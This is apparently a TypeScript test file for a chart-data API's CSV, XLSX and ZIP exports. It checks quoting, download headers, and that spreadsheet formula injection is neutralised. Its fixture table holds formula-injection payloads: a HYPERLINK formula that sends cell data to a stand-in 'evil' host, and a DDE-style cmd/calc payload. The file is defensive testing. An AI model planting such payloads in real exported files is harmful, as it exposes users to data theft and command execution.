/**
 * CSV, XLSX and ZIP answers of the chart-data API: RFC 4180 text, formula neutralisation of
 * cells and headers (with true negative numbers kept), XLSX read back with exceljs, several
 * queries zipped as query_N.csv, the download headers, form posts, and numbers checked against
 * hand-written SQL.
 */
import ExcelJS from 'exceljs';
import { unzipText } from '../support/unzip-text';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestApp } from '../support/test-app';
import { createDatabase, createDataset, createDuckdbFile } from '../modules/datasets-fixtures';
import { datasetId, exampleApp, num, openExamples, postChartData } from './chart-data-fixtures';

const EVIL_DDL = [
  `CREATE TABLE cells (label VARCHAR, amount INTEGER, "=formula" VARCHAR)`,
  `INSERT INTO cells VALUES
    ('=HYPERLINK("http://evil?x="&A1)', -5, '-2+3'),
    ('@SUM(A1:A2)', 3, 'plain, with comma'),
    ('+cmd|''/c calc''!A1', -2, '-5'),
    ('normal', 1, chr(9) || 'tab first'),
    ('say "hi"', 0, NULL)`,
];

/** A minimal RFC 4180 reader, independent of the writer under test. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field !== '' || row.length) rows.push([...row, field]);
  return rows;
}

describe('chart data exports', () => {
  let t: TestApp;
  let cells: number;
  let flights: number;

  beforeAll(async () => {
    t = await exampleApp();
    await createDuckdbFile(t.dataDir, 'evil.duckdb', EVIL_DDL);
    const db = await createDatabase(t, {
      database_name: 'evil',
      sqlalchemy_uri: 'duckdb:///evil.duckdb',
    });
    cells = await createDataset(t, { database: db, schema: 'main', table_name: 'cells' });
    flights = await datasetId(t, 'flights');
  });

  afterAll(async () => {
    await t?.dispose();
  });

  const rawCells = (format: string, extra: Record<string, unknown> = {}) => ({
    datasource: { id: cells, type: 'table' },
    result_format: format,
    form_data: { viz_type: 'table' },
    queries: [{ columns: ['label', 'amount', '=formula'], orderby: [['amount', true]], ...extra }],
  });

  it('writes CSV with formulas neutralised, negatives kept, RFC 4180 quoting', async () => {
    const res = await postChartData(t, rawCells('csv'));
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename=table_\d{8}_\d{6}\.csv$/,
    );
    expect(res.body).toBe(
      [
        `label,amount,'=formula`,
        `"'=HYPERLINK(""http://evil?x=""&A1)",-5,'-2+3`,
        `'+cmd\\|'/c calc'!A1,-2,-5`,
        `"say ""hi""",0,`,
        `normal,1,'\ttab first`,
        `'@SUM(A1:A2),3,"plain, with comma"`,
        '',
      ].join('\r\n'),
    );
  });

  it('writes XLSX whose string cells and headers are neutralised and numbers stay numbers', async () => {
    const res = await postChartData(t, rawCells('xlsx'));
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(res.headers['content-disposition']).toMatch(/filename=table_\d{8}_\d{6}\.xlsx$/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    if (!sheet) throw new Error('no sheet');
    const values = (n: number) => (sheet.getRow(n).values as unknown[]).slice(1);
    expect(values(1)).toEqual(['label', 'amount', "'=formula"]);
    expect(values(2)).toEqual([`'=HYPERLINK("http://evil?x="&A1)`, -5, "'-2+3"]);
    expect(values(3)).toEqual(["'+cmd\\|'/c calc'!A1", -2, '-5']);
    expect(sheet.getCell('B2').type).toBe(ExcelJS.ValueType.Number);
    expect(sheet.rowCount).toBe(6);
  });

  it('zips several queries as query_1.csv, query_2.csv', async () => {
    const res = await postChartData(t, {
      ...rawCells('csv'),
      queries: [
        { columns: ['label'], orderby: [['label', true]], row_limit: 2 },
        { columns: ['amount'], orderby: [['amount', false]], row_limit: 1 },
      ],
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('application/zip');
    expect(res.headers['content-disposition']).toMatch(/filename=table_\d{8}_\d{6}\.zip$/);
    const files = Object.fromEntries(await unzipText(res.rawPayload));
    expect(Object.keys(files)).toEqual(['query_1.csv', 'query_2.csv']);
    expect(files['query_1.csv']).toBe(
      `label\r\n'+cmd\\|'/c calc'!A1\r\n"'=HYPERLINK(""http://evil?x=""&A1)"\r\n`,
    );
    expect(files['query_2.csv']).toBe('amount\r\n3\r\n');
  });

  it('accepts an HTML form post whose form_data field holds the query context', async () => {
    const res = await t.post(
      '/api/v1/chart/data',
      { ...(await t.adminHeaders()), 'content-type': 'application/x-www-form-urlencoded' },
      new URLSearchParams({
        form_data: JSON.stringify(rawCells('csv', { row_limit: 1 })),
        filename: 'my cells',
      }).toString(),
    );
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-disposition']).toBe('attachment; filename=my_cells.csv');
    expect(res.body.split('\r\n')[0]).toBe(`label,amount,'=formula`);
  });

  it('exports numbers equal to hand-written SQL', async () => {
    const res = await postChartData(t, {
      datasource: { id: flights, type: 'table' },
      result_format: 'csv',
      queries: [
        {
          columns: ['origin'],
          metrics: ['count', 'max_delay'],
          orderby: [['origin', true]],
          row_limit: 10000,
        },
      ],
    });
    expect(res.statusCode, res.body).toBe(200);
    const [header, ...rows] = parseCsv(res.body);
    expect(header).toEqual(['origin', 'count', 'max_delay']);
    const duck = await openExamples(t.dataDir);
    try {
      const expected = await duck.rows(
        'SELECT origin, COUNT(*) AS n, MAX(delay) AS m FROM main.flights GROUP BY origin ORDER BY origin',
      );
      expect(rows.map((r) => [r[0], Number(r[1]), Number(r[2])])).toEqual(
        expected.map((r) => [r.origin, num(r.n), num(r.m)]),
      );
    } finally {
      duck.close();
    }
  });

  it('answers 400 "Empty query result" for an export without queries', async () => {
    const res = await postChartData(t, { ...rawCells('csv'), queries: [] });
    expect(res.statusCode).toBe(400);
  });
});
